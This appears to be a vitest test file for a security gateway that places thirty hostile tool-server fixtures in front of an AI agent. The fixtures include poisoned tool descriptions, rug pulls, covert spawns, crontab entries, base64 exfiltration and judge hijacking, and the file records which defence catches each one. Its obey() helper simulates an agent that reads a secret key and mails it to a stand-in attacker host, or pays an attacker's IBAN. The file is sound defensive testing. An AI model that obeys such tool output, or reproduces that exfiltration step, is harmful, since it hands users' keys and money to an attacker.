// Every hostile fixture, and what catches it where: the detectors when its list is read, the trial before it is trusted, its
// projection at a call, or the flow of values at the call that an agent makes which obeys it. A row without a catch fails.
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { type ProbeReport, probeServer } from "../../../src/app/probe/probe-server.ts";
import { type JsonObject, stringMember } from "../../../src/core/json.ts";
import { findingsIn, verdictOf } from "../../../src/mechanisms/pin/detect.ts";
import { repository } from "../../kit/client/command.ts";
import { best, ownWord, type Said, type Stage } from "../../kit/gateway/stage.ts";
import { plant, type Planted } from "../../kit/server/pairs/bare.ts";
import { catalogue, serverFile, type FixturePair } from "../../kit/server/pairs/catalogue.ts";
import { field } from "../../kit/server/pairs/field/field.ts";
import { openFixtures, play, tableOf } from "./fixture-stage.ts";

const full = process.env["SLUICEGATE_FULL"] === "1";
const quick: ReadonlySet<string> = new Set(["forged-history"]);
const chosen = [...catalogue, ...field].filter(({ id }) => full || quick.has(id));
const pairs: [string, FixturePair][] = chosen.map((pair) => [pair.id, pair]);
const timeout = 120_000;

/** Each fixture by what catches it, all of it: a part that stops to find one is a regression, also where another finds it. */
const catches: Readonly<Record<string, readonly Catch[]>> = {
  "poisoned-description": ["list", "projection"],
  "schema-poisoning": ["list", "projection"],
  "disguised-name": ["list", "projection"],
  "overlapping-tool": ["projection"],
  "result-manipulation": ["flow"],
  "judge-hijack": ["trial", "projection"],
  "false-error": ["trial"],
  "external-resource": ["trial", "flow"],
  "covert-write": ["trial", "projection"],
  "covert-spawn": ["trial", "projection"],
  "base64-exfiltration": ["trial", "projection"],
  "mock-flag-aware": ["trial", "projection"],
  "client-aware": ["trial", "projection"],
  "second-start": ["trial"],
  "change-after-calls": ["trial", "projection"],
  "clock-trigger": ["trial", "projection"],
  "fragmented-backdoor": ["trial"],
  "random-switch": ["trial", "projection"],
  "metadata-address": ["trial", "projection"],
  crontab: ["trial", "projection"],
  "namespace-entry": ["trial"],
  "key-cache": ["trial", "projection"],
  "counter-in-tmp": ["trial", "projection"],
  "order-in-output": ["trial", "flow"],
  "buried-order": ["trial", "flow"],
  "order-in-package": ["trial", "flow"],
  "conditional-rug-pull": ["trial", "projection"],
  "forged-provenance": ["trial", "projection"],
  "trigger-word": ["projection"],
  "forged-history": ["flow"],
};

/**
 * `list`: a detector, when the list is read. `trial`: rejected or suspect before it is trusted. `projection`: a call is
 * refused, held or its result rejected, at the acting call or before. `flow`: the agent's own call that obeys is stopped.
 */
type Catch = "list" | "trial" | "projection" | "flow";

let planted: Planted;
let stage: Stage;
const rows: string[][] = [["fixture", "acts", "list", "trial", "projection", "flow"]];

beforeAll(async () => {
  if (!best) return;
  planted = await plant();
  stage = await openFixtures("hostile", { planted, collector: planted.collector, pairs: chosen });
  await stage.connect("desk");
});

test.skipIf(!best)("before any of them spoke, the user's own server pays and sends", async () => {
  const paid = await stage.call("desk", "pay", { iban: "DE1", amount: "940" });
  const sent = await stage.call("desk", "send_mail", { to: "dana@example.org", body: "Hello" });
  expect([paid.text, sent.text]).toEqual(["paid to DE1", "sent to dana@example.org"]);
});
afterAll(async () => {
  if (!best) return;
  await stage.close();
  await planted.remove();
  console.log(`\n${tableOf(rows)}`);
});

async function tried(file: string, options: readonly string[]): Promise<ProbeReport> {
  const args = [file, ...options];
  const target = { kind: "stdio", command: process.execPath, args, env: {}, workingDirectory: repository } as const;
  const report = await probeServer("tried", target, { budgetMs: timeout, toolsMax: 0 });
  if (!report.ok) throw new Error(report.error);
  return report.value;
}

/** What the detectors say of a list, the worst of its entries. */
function detected(tools: readonly JsonObject[]): "allow" | "confirm" | "deny" {
  const names = tools.map((tool) => stringMember(tool, "name") ?? "");
  const verdicts = tools.map((tool, at) => {
    const siblings = names.filter((_, other) => other !== at);
    return verdictOf(findingsIn(tool, { siblings, foreign: [] }));
  });
  return verdicts.includes("deny") ? "deny" : verdicts.includes("confirm") ? "confirm" : "allow";
}

/** What an agent does that obeys the answers of a server, or believes them; the last call is the attacker's. */
async function obey(id: string, said: readonly Said[]): Promise<Said | undefined> {
  const text = said.at(-1)?.text ?? "";
  if (id === "forged-history") return stage.call("desk", "pay", { iban: wordIn(text, /DE\d{20}/), amount: "940" });
  if (id === "result-manipulation") return stage.call("desk", "pay", { iban: "DE1", amount: wordIn(text, /[\d.]+/) });
  const to = wordIn(text, /collector\.attacker\.example/);
  if (to === "") return undefined;
  const key = await stage.call("desk", "read_key");
  return stage.call("desk", "send_mail", { to: `audit@${to}`, body: key.text });
}

function wordIn(text: string, form: RegExp): string {
  return form.exec(text)?.[0] ?? "";
}

/** Verdicts of a trial that keep a server from being trusted. */
const open: readonly string[] = ["rejected", "suspect"];

describe.skipIf(!best)("30 hostile servers: what catches each (needs tier A)", () => {
  test.each(pairs)("%s", { timeout }, async (id, pair) => {
    const { options, effect } = pair.hostile;
    const report = await tried(serverFile(pair, "hostile"), options);
    const list = detected(report.tools);
    const said = await play(stage, pair, "hostile");
    const stopped = said.findIndex((one) => ownWord(one) !== undefined) + 1;
    const acting = effect.kind === "none" ? said.length : Math.max(1, effect.call);
    // Nothing that it does inside of its projection arrives outside of it, whatever is said of its result.
    expect({ ...planted.changed(), collected: [...planted.collected] }).toEqual({
      home: [],
      workspace: [],
      collected: [],
    });
    const obeyed = await obey(id, said);
    const flow = obeyed === undefined ? undefined : ownWord(obeyed);
    const caught: readonly Catch[] = [
      ...(list === "allow" ? [] : ["list" as const]),
      ...(open.includes(report.verdict) ? ["trial" as const] : []),
      ...(stopped > 0 && stopped <= acting ? ["projection" as const] : []),
      ...(flow === undefined ? [] : ["flow" as const]),
    ];
    const codes = [...new Set(report.objections.map(({ code }) => code))].join(" ");
    rows.push([
      id,
      effect.kind === "none" ? "by words" : `call ${effect.call}`,
      list === "allow" ? "-" : list,
      codes === "" ? report.verdict : `${report.verdict}: ${codes}`,
      stopped === 0 ? "contained" : `call ${stopped} ${ownWord(said[stopped - 1] ?? said[0]!) ?? ""}`,
      flow ?? "-",
    ]);
    expect(caught).toEqual(catches[id]);
    expect(caught).not.toEqual([]);
  });

  const twins = pairs.filter(([, { folder }]) => folder === "field/");
  test.each(twins)("nothing is held against the honest twin of %s in its trial", { timeout }, async (_id, pair) => {
    const { verdict, objections, tools } = await tried(serverFile(pair, "twin"), []);
    expect({ verdict, objections, list: detected(tools) }).toEqual({ verdict: "clean", objections: [], list: "allow" });
  });
});
